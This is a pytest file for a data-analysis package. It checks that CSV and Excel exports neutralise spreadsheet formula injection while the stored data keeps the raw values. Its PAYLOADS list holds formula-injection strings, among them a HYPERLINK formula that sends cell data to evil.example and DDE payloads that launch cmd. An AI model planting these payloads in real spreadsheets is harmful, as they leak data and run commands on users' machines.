"""Files meant for a spreadsheet never carry a live formula; the stored data keeps the values."""

import openpyxl
import pandas as pd
import pytest

from outstaff_analysis.io.store import build_processed, load_processed

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0"]


def test_rejects_files_neutralise_formulas_but_parquet_keeps_the_values(tmp_path, write_minimal_raw):
    raw = tmp_path / "raw"
    write_minimal_raw(raw)
    kept = "".join(f"K{i};{payload};referral\n" for i, payload in enumerate(PAYLOADS))
    bad = "".join(f"B{i};Лютик;{payload}\n" for i, payload in enumerate(PAYLOADS))
    (raw / "clients.csv").write_text("client_id;client_name;source\nC1;Ромашка;referral\n" + kept + bad, encoding="utf-8")
    build_processed(tmp_path)
    rejects = pd.read_csv(tmp_path / "processed" / "rejects" / "clients.csv", dtype=str, encoding="utf-8-sig")
    source = rejects[rejects["column"] == "source"]
    assert source["value"].tolist() == ["'" + p for p in PAYLOADS]
    # nothing in the file starts a cell with a formula trigger
    assert not rejects.map(lambda v: isinstance(v, str) and v[:1] in "=+-@\t\r").any().any()
    names = load_processed(tmp_path, tables=["clients"])["clients"]["client_name"].tolist()
    assert names == ["Ромашка", *PAYLOADS, *["Лютик"] * len(PAYLOADS)]


def test_neutralise_cells_leaves_plain_numbers_and_text(tmp_path):
    from outstaff_analysis.io.spreadsheet import neutralise_cell

    cases = {"-5": "-5", "+7": "+7", "-1.5": "-1.5", "-1,5": "-1,5", "Ромашка": "Ромашка", "": "",
             "=1+1": "'=1+1", "-1+1": "'-1+1", "\tx": "'\tx", "\r=1": "'\r=1", "@x": "'@x", "＝1+1": "'＝1+1",
             "+7 999 123-45-67": "'+7 999 123-45-67"}
    assert {value: neutralise_cell(value) for value in cases} == cases
    assert neutralise_cell(5) == 5 and neutralise_cell(None) is None


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_write_spreadsheet_has_no_formula_cell(tmp_path, suffix):
    from outstaff_analysis.io.spreadsheet import write_spreadsheet

    frame = pd.DataFrame({"=col": ["=1+1", "ok"], "n": [-5, 2]})
    path = write_spreadsheet(frame, tmp_path / f"out{suffix}")
    if suffix == ".xlsx":
        cells = [cell for row in openpyxl.load_workbook(path).active.iter_rows() for cell in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"]
        assert [c.value for c in cells] == ["'=col", "n", "'=1+1", -5, "ok", 2]
    else:
        assert path.read_text(encoding="utf-8-sig") == "'=col,n\n'=1+1,-5\nok,2\n"
